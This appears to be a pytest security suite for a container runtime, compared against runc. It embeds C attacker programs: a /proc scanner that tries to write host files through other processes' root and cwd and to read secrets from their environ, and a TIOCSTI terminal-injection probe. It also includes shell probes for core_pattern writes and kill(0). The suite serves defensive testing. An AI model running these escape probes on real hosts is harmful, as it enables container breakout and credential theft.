"""Container-to-host escapes of issue 10 (items 1-6 and 8), each played by an attacker inside the
container, against pyruntime and runc 1.1.5 (the control) in the same run.

The attackers are small static C programs compiled here (gcc -static) and bound read-only at /t, or
busybox shell.  Every verdict is read on the host side or from the attacker's own report, never
from the runtime's word.  runc passes all of them but item 2 (a new init joining another
container's pid namespace is visible there before pivot_root) and the rename variant of item 6
(its masks follow paths): for those, pyruntime must be safe and runc's result is recorded
(``record_property`` and the test's output), not asserted.
"""
from __future__ import annotations

import fcntl
import os
import select
import shlex
import shutil
import subprocess
import sys
import termios
import time
import tty
import uuid
from pathlib import Path

import pytest

from pyrt_testenv import RUNC
from .helpers import PYTHON, REPO, Runtime, both, err, out, runtime_for_test, wait_for

SECRET = f"PYRT_SECRET_{uuid.uuid4().hex[:12]}"

# ----------------------------------------------------------------------------- attackers (C)
SCANNER = r"""
/* scanner DURATION_MS HOST_FILE CWD_NAME SECRET STOPFILE: loop over /proc/<pid> of every other
 * process and try to reach the host through it: HOST_FILE (absolute host path) below its root,
 * CWD_NAME below its cwd (both opened read-write: a hit appends to the host file), SECRET in its
 * environ.  SEEN lines prove the loop really saw the racing processes. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static long now_ms(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec * 1000 + t.tv_nsec / 1000000; }
static int seen[1 << 16];
int main(int argc, char **argv) {
    long end = now_ms() + atol(argv[1]), loops = 0, hits = 0;
    char path[8192], buf[65536];
    int self = getpid();
    while (now_ms() < end && access(argv[5], F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        loops++;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name), fd;
            if (pid <= 1 || pid == self) continue;
            snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[2]);
            if ((fd = open(path, O_RDWR | O_APPEND)) >= 0) {
                dprintf(fd, "PWNED-ROOT by %d\n", pid); close(fd); hits++;
                printf("HIT-ROOT %d\n", pid);
            }
            snprintf(path, sizeof path, "/proc/%d/cwd/%s", pid, argv[3]);
            if ((fd = open(path, O_RDWR | O_APPEND)) >= 0) {
                dprintf(fd, "PWNED-CWD by %d\n", pid); close(fd); hits++;
                printf("HIT-CWD %d\n", pid);
            }
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            if ((fd = open(path, O_RDONLY)) >= 0) {
                ssize_t n = read(fd, buf, sizeof buf - 1);
                close(fd);
                if (n > 0 && memmem(buf, (size_t)n, argv[4], strlen(argv[4]))) { printf("HIT-ENV %d\n", pid); hits++; }
            }
            if (pid < (1 << 16) && !seen[pid]) {
                snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
                if ((fd = open(path, O_RDONLY)) >= 0) {
                    ssize_t n = read(fd, buf, sizeof buf - 1), i;
                    close(fd);
                    if (n > 0) {
                        for (i = 0; i < n - 1; i++) if (!buf[i]) buf[i] = ' ';
                        buf[n] = 0;
                        seen[pid] = 1;
                        printf("SEEN %d %s\n", pid, buf);
                    }
                }
            }
        }
        if (d) closedir(d);
        fflush(stdout);
    }
    printf("SCANNER-DONE loops=%ld hits=%ld\n", loops, hits);
    return 0;
}
"""

TIOCSTI_C = r"""
/* Push "echo INJECTED..." into every terminal reachable: stdio and /dev/tty. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
int main(void) {
    const char *cmd = "echo INJECTED-BY-CONTAINER\n";
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR)}, i, ok = 0;
    for (i = 0; i < 4; i++) {
        const char *c; int rc = -1, e = EBADF;
        if (fds[i] >= 0) {
            for (c = cmd; *c; c++) { rc = ioctl(fds[i], TIOCSTI, c); if (rc < 0) { e = errno; break; } }
        }
        dprintf(2, "TIOCSTI %s rc=%d errno=%d\n", i < 3 ? (i == 0 ? "stdin" : i == 1 ? "stdout" : "stderr") : "/dev/tty", rc, rc ? e : 0);
        ok += rc == 0;
    }
    dprintf(2, "TIOCSTI-SUCCEEDED=%d\n", ok);
    return 0;
}
"""


@pytest.fixture(scope="session")
def attack_bin(tmp_path_factory) -> Path:
    if shutil.which("gcc") is None:
        pytest.fail("gcc is needed to build the attacker programs (apt-get install gcc libc6-dev)")
    d = tmp_path_factory.mktemp("attackers")
    for name, src in (("scanner", SCANNER), ("tiocsti", TIOCSTI_C)):
        (d / f"{name}.c").write_text(src)
        res = subprocess.run(["gcc", "-static", "-O2", "-o", str(d / name), str(d / f"{name}.c")],
                             capture_output=True, text=True)
        if res.returncode != 0 and "cannot find -lc" in res.stderr:
            pytest.skip("static libc (libc6-dev) is missing: gcc -static cannot link the attackers")
        assert res.returncode == 0, res.stderr
    os.chmod(d, 0o755)
    return d


# ----------------------------------------------------------------------------- the two runtimes
class Runc(Runtime):
    """runc 1.1.5 with a private --root: the control."""

    def cmd(self, *args: str) -> list[str]:
        return [RUNC, "--root", self.root, *args]

    def state(self, cid: str) -> dict | None:
        st = super().state(cid)
        if st is not None:
            st.setdefault("pid", st.get("pid", 0))
        return st


@pytest.fixture(params=["pyruntime", "runc"])
def rt(request, runtime) -> Runtime:
    """The runtime under test; `runc` is the control (its own root, same bundles)."""
    if request.param == "pyruntime":
        runtime.name = "pyruntime"
        return runtime
    if RUNC is None:
        pytest.fail("runc (the control runtime) is not installed: apt-get install runc")
    r = runtime_for_test(request, Runc, prefix="pyruntime-test-runc-")
    r.name = "runc"
    return r


def _bundle(make_bundle, rt, attack_bin: Path | None = None, root: Path | None = None, caps: tuple = ()):
    b = make_bundle(root)
    if rt.name == "runc":
        b.linux.pop("cgroupsPath", None)      # runc places relative paths elsewhere; its own default
    if attack_bin is not None:
        b.add_mount("/t", str(attack_bin), options=["rbind", "ro"])
    if caps:
        for s in ("bounding", "effective", "permitted"):
            b.process.setdefault("capabilities", {})[s] = sorted(set(b.process["capabilities"].get(s, [])) | set(caps))
    return b


def _start_scanner(rt, make_bundle, attack_bin: Path, tmp_path: Path, secs: int = 90):
    """The operator's secret dir, and the scanner (CAP_SYS_PTRACE) run detached-in-foreground (Popen on
    `run`) until /ctl/stop appears; waits until it runs.  Returns (secret dir, ctl dir, id, Popen)."""
    secret_dir, ctl = _secret_dir(tmp_path), tmp_path / "ctl"
    ctl.mkdir()
    b = _bundle(make_bundle, rt, attack_bin, caps=("CAP_SYS_PTRACE",))
    b.args("/t/scanner", str(secs * 1000), str(secret_dir / "host-file"), "cwd-file", SECRET, "/ctl/stop")
    b.add_mount("/ctl", str(ctl), options=["rbind", "ro"])
    cid = rt.new_id("scan")
    b.write()
    rt._track(b)
    proc = subprocess.Popen(rt.cmd("run", "--bundle", str(b.path), cid), cwd=str(REPO), env=rt.env(),
                            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert wait_for(lambda: (rt.state(cid) or {}).get("status") == "running", 30), "scanner did not start"
    return secret_dir, ctl, cid, proc


def _secret_dir(tmp_path: Path) -> Path:
    d = tmp_path / "operator-cwd"
    d.mkdir()
    (d / "host-file").write_text("host file\n")
    (d / "cwd-file").write_text("host cwd file\n")
    return d


def _stop_scanner(proc, ctl: Path) -> str:
    (ctl / "stop").touch()
    stdout, stderr = proc.communicate(timeout=120)
    text = stdout.decode(errors="replace")
    assert "SCANNER-DONE" in text, text[-2000:] + stderr.decode(errors="replace")[-2000:]
    return text


def _hits(text: str, secret_dir: Path) -> list[str]:
    hits = [line for line in text.splitlines() if line.startswith("HIT-")]
    for name in ("host-file", "cwd-file"):
        if "PWNED" in (secret_dir / name).read_text():
            hits.append(f"host {name} was written through the container: {(secret_dir / name).read_text()!r}")
    return hits


def _seen(text: str) -> int:
    """Processes the scanner saw besides itself and the init."""
    return sum(1 for line in text.splitlines() if line.startswith("SEEN "))


def _call(rt, *args: str, cwd: Path, timeout: float = 60) -> subprocess.CompletedProcess:
    """The runtime from the operator's directory with a secret in its environment; output to files
    (a created init keeps the runtime's stdio: pipes would never reach EOF)."""
    import tempfile
    with tempfile.TemporaryFile() as fo, tempfile.TemporaryFile() as fe:
        res = subprocess.run(rt.cmd(*args), cwd=str(cwd), env=_env_with_secret(), stdout=fo, stderr=fe,
                             stdin=subprocess.DEVNULL, timeout=timeout)
        fo.seek(0)
        fe.seek(0)
        res.stdout, res.stderr = fo.read(), fe.read()
    return res


def _env_with_secret() -> dict:
    return dict(os.environ, PYTHONPATH=str(REPO), PYRT_OPERATOR_TOKEN=SECRET)


# ------------------------------------------------------------------------ item 1: exec helper
def test_exec_helper_never_visible_with_host_root(rt, make_bundle, attack_bin, tmp_path, record_property):
    """A CAP_SYS_PTRACE container scans /proc/*/root, /proc/*/cwd and /proc/*/environ while the
    operator runs `exec` 30 times from a host directory with a secret in its environment."""
    secret_dir, ctl, cid, proc = _start_scanner(rt, make_bundle, attack_bin, tmp_path)
    results = []
    try:
        for i in range(30):
            results.append(_call(rt, "exec", cid, "/bin/sleep", "0.0%d1" % (i % 10), cwd=secret_dir))
    finally:
        text = _stop_scanner(proc, ctl)
    for res in results:
        assert res.returncode == 0, both(res)
    hits = _hits(text, secret_dir)
    record_property(f"{rt.name}_hits", len(hits))
    assert not hits, f"{rt.name}: the container reached the host through an exec helper: {hits[:10]}"
    # control: the scanner saw the exec'd processes racing by (first sight: the runtime's helper or sleep)
    assert _seen(text) >= 10, text[-3000:]


# ---------------------------------------------------------------- item 2: joined pid namespace
def test_new_init_in_joined_pid_namespace_never_visible_with_host_root(rt, make_bundle, attack_bin, tmp_path,
                                                                       record_property, capsys):
    """A second container joins the scanner's pid namespace by path (a pod sharing its process
    namespace): its init must appear there only with the container's root.  runc 1.1.5 fails this
    one (its init does the mounts inside the joined namespace): recorded, not asserted."""
    secret_dir, ctl, cid, proc = _start_scanner(rt, make_bundle, attack_bin, tmp_path)
    created = []
    try:
        pid = rt.state(cid)["pid"]
        for i in range(10):
            v = _bundle(make_bundle, rt)
            v.linux["namespaces"] = [ns if ns["type"] != "pid" else {"type": "pid", "path": f"/proc/{pid}/ns/pid"}
                                     for ns in v.linux["namespaces"]]
            v.args("/bin/sleep", "0.3%d" % i)
            vid = rt.new_id("pod")
            v.write()
            rt._track(v)
            res = _call(rt, "create", "--bundle", str(v.path), vid, cwd=secret_dir)
            created.append(res)
            assert res.returncode == 0, both(res)
            assert rt("start", vid).returncode == 0
            wait_for(lambda: (rt.state(vid) or {}).get("status") == "stopped", 10)
            rt("delete", "--force", vid)
    finally:
        text = _stop_scanner(proc, ctl)
    hits = _hits(text, secret_dir)
    record_property(f"{rt.name}_hits", len(hits))
    if rt.name == "pyruntime":
        assert not hits, f"pyruntime: the container reached the host through a new init: {hits[:10]}"
    assert _seen(text) >= 3, text[-3000:]      # control: the scanner saw the new inits racing by
    if rt.name == "runc":
        with capsys.disabled():
            print(f"\n[control] runc 1.1.5, new init in a joined pid namespace: {len(hits)} host hits"
                  f" ({'vulnerable' if hits else 'none seen this run'})")
        return


# --------------------------------------------------------------------- item 3: the created init
def _host_exes() -> dict:
    exes = {}
    for p in {os.path.realpath(sys.executable), os.path.realpath(getattr(sys, "_base_executable", sys.executable)),
              os.path.realpath(PYTHON), RUNC or "/usr/sbin/runc", "/usr/bin/python3"}:
        try:
            st = os.stat(p)
        except OSError:
            continue
        exes[f"{st.st_dev}:{st.st_ino}"] = p
    return exes


@pytest.mark.parametrize("start_hook,seccomp", [(False, False), (True, False), (False, True), (True, True)],
                         ids=["plain", "startContainer-hook", "seccomp-without-nnp", "seccomp-without-nnp-hook"])
def test_created_init_exposes_no_caller_env_and_no_host_binary(rt, make_bundle, tmp_path, record_property,
                                                               start_hook, seccomp):
    """With CAP_SYS_PTRACE, a process exec'd into a created (not started) container reads the init's
    /proc/1/environ and /proc/1/exe: nothing of the caller's environment, no host executable.  A
    startContainer hook must not change that (the init runs it after `start`, from the sealed
    trampoline), and it still runs, with the state on its stdin, before the process.  Nor must a
    seccomp filter without noNewPrivileges in a container whose own processes cannot have
    CAP_SYS_PTRACE (podman's and containerd's usual config): the exec'd prober gets it from `exec
    --cap`, and the init used to wait there as a copy of the runtime (non-dumpable, but readable with
    CAP_SYS_PTRACE in the host user namespace)."""
    b = _bundle(make_bundle, rt, caps=() if seccomp else ("CAP_SYS_PTRACE",))
    b.args("/bin/sleep", "30")
    if seccomp:
        b.process["noNewPrivileges"] = False
        b.linux["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW", "architectures": ["SCMP_ARCH_X86_64"],
                              "syscalls": [{"names": ["kexec_load"], "action": "SCMP_ACT_ERRNO"}]}
        assert "CAP_SYS_PTRACE" not in b.process["capabilities"]["bounding"]
    if start_hook:
        b.config["hooks"] = {"startContainer": [{"path": "/bin/sh", "args": [
            "sh", "-c", "grep -q '\"status\"' && echo ran > /dev/shm/start-hook-ran"], "timeout": 10}]}
    cid = rt.new_id("created")
    b.write()
    rt._track(b)
    res = _call(rt, "create", "--bundle", str(b.path), cid, cwd=REPO)
    assert res.returncode == 0, both(res)
    assert rt.state(cid)["status"] == "created"
    probe = rt("exec", "--cap", "CAP_SYS_PTRACE", cid, "/bin/sh", "-c",
               "echo ENV-BEGIN; tr '\\0' '\\n' < /proc/1/environ; echo ENV-END; "
               "echo EXE=$(stat -L -c %d:%i /proc/1/exe); echo LINK=$(readlink /proc/1/exe); "
               "head -c 64 /proc/1/exe > /dev/null && echo EXE-READABLE")
    text = out(probe)
    assert probe.returncode == 0 and "ENV-END" in text, both(probe)
    assert SECRET not in text, f"{rt.name}: the created init shows the caller's environment:\n{text}"
    exe = next(line[4:] for line in text.splitlines() if line.startswith("EXE="))
    host = _host_exes()
    if rt.name == "runc":
        # runc 1.1.5 (Debian's, with the CVE-2019-5736 fixes) runs its init from a private read-only
        # bind of its own binary: the same inode as the host file, but not writable through it.
        record_property("runc_exe_is_host_inode", exe in host)
        return
    assert exe not in host, f"{rt.name}: /proc/1/exe of the created init is the host's {host.get(exe)}:\n{text}"
    assert rt("start", cid).returncode == 0
    if start_hook:
        ran = rt("exec", cid, "/bin/cat", "/dev/shm/start-hook-ran")
        assert out(ran).strip() == "ran", both(ran)


# ---------------------------------------------------------------------------- item 4: TIOCSTI
def _operator_terminal(cmd: list[str], env: dict, timeout: float = 60) -> tuple[int, str, bytes]:
    """Run `cmd` with a fresh pty as its controlling terminal and stdio (an operator's interactive
    shell).  Returns (exit status, what the terminal showed, what was pushed into its input)."""
    master, slave = os.openpty()
    tty.setraw(slave)           # injected bytes become readable at once, no line discipline games
    try:
        def ctty() -> None:
            os.setsid()
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)
        proc = subprocess.Popen(cmd, stdin=slave, stdout=slave, stderr=slave, cwd=str(REPO), env=env,
                                preexec_fn=ctty)
        shown = b""
        deadline = time.monotonic() + timeout
        while proc.poll() is None and time.monotonic() < deadline:
            r, _, _ = select.select([master], [], [], 0.1)
            if r:
                shown += os.read(master, 65536)
        if proc.poll() is None:
            proc.kill()
            proc.wait()
            pytest.fail(f"{cmd} did not finish on the operator's terminal in {timeout} s: {shown!r}")
        while select.select([master], [], [], 0.2)[0]:
            try:
                shown += os.read(master, 65536)
            except OSError:
                break
        injected = b""
        os.set_blocking(slave, False)
        try:
            injected = os.read(slave, 65536)
        except (BlockingIOError, OSError):
            pass
        return proc.returncode, shown.decode(errors="replace"), injected
    finally:
        os.close(master)
        os.close(slave)


def _assert_no_injection(name: str, code: int, shown: str, injected: bytes) -> None:
    assert "TIOCSTI-SUCCEEDED=" in shown, f"{name}: the attacker did not run ({code}): {shown!r}"
    assert b"INJECTED" not in injected, f"{name}: the container pushed input into the operator's terminal: {injected!r}"
    assert "TIOCSTI-SUCCEEDED=0" in shown, f"{name}: a TIOCSTI ioctl succeeded: {shown!r}"


def test_exec_cannot_push_into_operator_terminal(rt, make_bundle, attack_bin):
    """`exec ID cmd` (no -t) from an interactive shell, the exec'd process holding CAP_SYS_ADMIN."""
    b = _bundle(make_bundle, rt, attack_bin)
    b.args("/bin/sleep", "60")
    cid, res = rt.create(b)
    assert res.returncode == 0, both(res)
    assert rt("start", cid).returncode == 0
    code, shown, injected = _operator_terminal(rt.cmd("exec", "--cap", "CAP_SYS_ADMIN", cid, "/t/tiocsti"), rt.env())
    _assert_no_injection(rt.name, code, shown, injected)
    assert code == 0, shown


def test_run_cannot_push_into_operator_terminal(rt, make_bundle, attack_bin):
    """`run` (no -t) of a CAP_SYS_ADMIN container from an interactive shell."""
    b = _bundle(make_bundle, rt, attack_bin, caps=("CAP_SYS_ADMIN",))
    b.args("/t/tiocsti")
    b.write()
    rt._track(b)
    cid = rt.new_id("tty")
    code, shown, injected = _operator_terminal(rt.cmd("run", "--bundle", str(b.path), cid), rt.env())
    _assert_no_injection(rt.name, code, shown, injected)
    assert code == 0, shown


def test_run_relay_keeps_stdin_stdout_and_exit_code(runtime, make_bundle):
    """The relay that replaces the terminal still carries input, output and the exit status."""
    b = make_bundle()
    b.sh("read line; echo got:$line; echo err >&2; exit 7")
    b.write()
    runtime._track(b)
    cid = runtime.new_id("relay")
    master, slave = os.openpty()
    try:
        proc = subprocess.Popen(runtime.cmd("run", "--bundle", str(b.path), cid), stdin=slave, stdout=slave,
                                stderr=slave, cwd=str(REPO), env=runtime.env())
        os.write(master, b"hello\n")
        shown = b""
        deadline = time.monotonic() + 30
        while proc.poll() is None and time.monotonic() < deadline:
            if select.select([master], [], [], 0.1)[0]:
                shown += os.read(master, 65536)
        while select.select([master], [], [], 0.2)[0]:
            shown += os.read(master, 65536)
        assert proc.wait(timeout=5) == 7, shown
        assert b"got:hello" in shown and b"err" in shown, shown
    finally:
        os.close(master)
        os.close(slave)


# ------------------------------------------------------------------------- item 5: kill(0)
def test_exec_kill_zero_stays_in_container(rt, make_bundle):
    """`exec` from a shell pipeline: `kill -TERM 0` in the container must not reach the caller's
    process group (here: the shell and a sleeper next to the runtime)."""
    b = _bundle(make_bundle, rt)
    b.args("/bin/sleep", "60")
    cid, res = rt.create(b)
    assert res.returncode == 0, both(res)
    assert rt("start", cid).returncode == 0
    runtime_cmd = " ".join(shlex.quote(a) for a in rt.cmd("exec", cid, "/bin/sh", "-c", "kill -TERM 0"))
    script = (f"sleep 30 & s=$!; {runtime_cmd} < /dev/null; echo EXEC-RC=$?; "
              "if kill -0 $s 2>/dev/null; then echo SLEEPER-ALIVE; kill $s; fi; echo SHELL-ALIVE")
    res = subprocess.run(["/bin/sh", "-c", script], cwd=str(REPO), env=rt.env(), capture_output=True,
                         timeout=60, start_new_session=True)
    text = res.stdout.decode(errors="replace")
    assert "SHELL-ALIVE" in text and "SLEEPER-ALIVE" in text, (
        f"{rt.name}: kill(0) in the container reached the caller's process group "
        f"(status {res.returncode}): {text!r} {res.stderr!r}")


# --------------------------------------------------------------- item 6: procfs through a swap
def _hook(script: str) -> dict:
    return {"path": "/bin/sh", "args": ["sh", "-c", script], "timeout": 20}


def test_proc_symlink_destination_is_refused(rt, make_bundle, rootfs_copy, tmp_path):
    """The rootfs's /proc is a symlink into a shared volume; a prestart hook (the sibling container)
    moves the directory procfs was mounted on.  The runtime must refuse the symlink destination."""
    vol = tmp_path / "vol"
    (vol / "p").mkdir(parents=True)
    proc_dir = rootfs_copy / "proc"
    shutil.rmtree(proc_dir)
    proc_dir.symlink_to("/vol/p")
    b = _bundle(make_bundle, rt, root=rootfs_copy)
    b.config["mounts"].insert(0, {"destination": "/vol", "type": "bind", "source": str(vol), "options": ["rbind", "rw"]})
    b.config["hooks"] = {"prestart": [_hook(f"mv {vol}/p {vol}/q && mkdir {vol}/p")]}
    b.sh(": >> /vol/q/sys/kernel/core_pattern && echo CORE-PATTERN-WRITABLE; "
         "[ -e /vol/q/timer_list ] && [ ! -c /vol/q/timer_list ] && echo UNMASKED")
    res = rt.run(b)
    assert "CORE-PATTERN-WRITABLE" not in out(res) and "UNMASKED" not in out(res), f"{rt.name}: {both(res)}"
    assert res.returncode != 0, f"{rt.name} accepted a /proc destination that is a symlink: {both(res)}"
    if rt.name == "pyruntime":
        assert "symlink" in err(res) or "ordinary directory" in err(res), both(res)


def test_masks_follow_the_mounted_procfs(rt, make_bundle, rootfs_copy, record_property, capsys):
    """No symlink: a prestart hook renames the rootfs directory procfs was mounted on (the mount moves
    with it) and puts an empty directory in its place.  Masks and read-only paths must still land on
    the procfs that was mounted.  runc 1.1.5 masks by path: recorded, not asserted."""
    b = _bundle(make_bundle, rt, root=rootfs_copy)
    b.config["hooks"] = {"prestart": [_hook(f"mv {rootfs_copy}/proc {rootfs_copy}/q && mkdir {rootfs_copy}/proc")]}
    b.sh("[ -e /q/self ] || { echo NO-PROC-AT-Q; exit 0; }; "
         ": >> /q/sys/kernel/core_pattern 2>/dev/null && echo CORE-PATTERN-WRITABLE; "
         "if [ -c /q/timer_list ]; then echo TIMER-MASKED; else echo TIMER-UNMASKED; fi; exit 0")
    res = rt.run(b)
    text = out(res)
    unsafe = "CORE-PATTERN-WRITABLE" in text or "TIMER-UNMASKED" in text
    record_property(f"{rt.name}_unsafe", unsafe)
    if rt.name == "runc":
        with capsys.disabled():
            print(f"\n[control] runc 1.1.5, procfs moved after mount: {'UNSAFE' if unsafe else 'safe'} "
                  f"(exit {res.returncode}): {text.split()} {err(res).strip()[-300:]}")
        return
    if res.returncode != 0:           # refusing is safe too, but say why
        assert not unsafe, both(res)
        return
    assert "NO-PROC-AT-Q" not in text, f"the hook's rename did not move the procfs mount: {both(res)}"
    assert not unsafe, f"pyruntime left an unmasked or writable procfs: {both(res)}"
    assert "TIMER-MASKED" in text, both(res)


# ------------------------------------------------------------------- item 8: set*id deadlock
def test_fifty_parallel_creates_never_hang(rt, make_bundle):
    """50 creates at once (each with the start-up warm-up thread): none may hang in set*id."""
    b = _bundle(make_bundle, rt)
    b.process["user"] = {"uid": 1000, "gid": 1000, "additionalGids": [1001, 1002]}
    b.args("/bin/true")
    b.write()
    rt._track(b)
    ids = [rt.new_id("par") for _ in range(50)]
    import json
    import tempfile
    bundles = []
    for n, i in enumerate(ids):         # one cgroup each: containers may not share a non-empty one
        cfg = json.loads(json.dumps(b.config))
        if "cgroupsPath" in cfg.get("linux", {}):
            cfg["linux"]["cgroupsPath"] = f"{cfg['linux']['cgroupsPath']}-{n}"
            rt.cgroups.add(cfg["linux"]["cgroupsPath"])
        d = b.path.parent / f"par{n}"
        d.mkdir()
        (d / "config.json").write_text(json.dumps(cfg))
        bundles.append(d)
    errs = [tempfile.TemporaryFile() for _ in ids]      # files: the created inits keep our stdio
    procs = [subprocess.Popen(rt.cmd("create", "--bundle", str(d), i), cwd=str(REPO), env=rt.env(),
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=e)
             for i, d, e in zip(ids, bundles, errs)]
    deadline = time.monotonic() + 180
    failed = []
    for i, p, e in zip(ids, procs, errs):
        try:
            p.wait(timeout=max(1, deadline - time.monotonic()))
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
            failed.append(f"{i}: create hung")
            continue
        e.seek(0)
        if p.returncode != 0:
            failed.append(f"{i}: {e.read().decode(errors='replace')}")
        e.close()
    for i in ids:
        rt("delete", "--force", i)
    assert not failed, f"{rt.name}: {len(failed)} of 50 creates failed: {failed[:5]}"


def test_child_uses_raw_setid_syscalls():
    """The C core's child never calls glibc's set*id wrappers (they wait for the parent's threads)."""
    import re
    for c in sorted((REPO / "_native").glob("*.c")):
        text = re.sub(r'"(\\.|[^"\\])*"', '""', c.read_text())      # not inside string literals
        calls = re.findall(r"(?<![\w.>])(set(?:res|re|e)?[ug]id|setgroups|setfs[ug]id)\s*\(", text)
        assert not calls, f"{c.name} calls glibc set*id wrappers {calls}: use the raw syscalls (child.h)"


def test_no_thread_alive_at_clone():
    """The warm-up thread started at CLI start-up is gone (also from the kernel) before any clone()."""
    code = ("import os\nfrom pyruntime.cgwarm import warm_attach_lock\nfrom pyruntime.protocol import _single_threaded\n"
            "warm_attach_lock()\n_single_threaded()\nprint(len(os.listdir('/proc/self/task')))\n")
    res = subprocess.run([PYTHON, "-c", code], cwd=str(REPO), env=Runtime.env(), capture_output=True, text=True,
                         timeout=60)
    assert res.returncode == 0 and res.stdout.strip() == "1", res.stdout + res.stderr
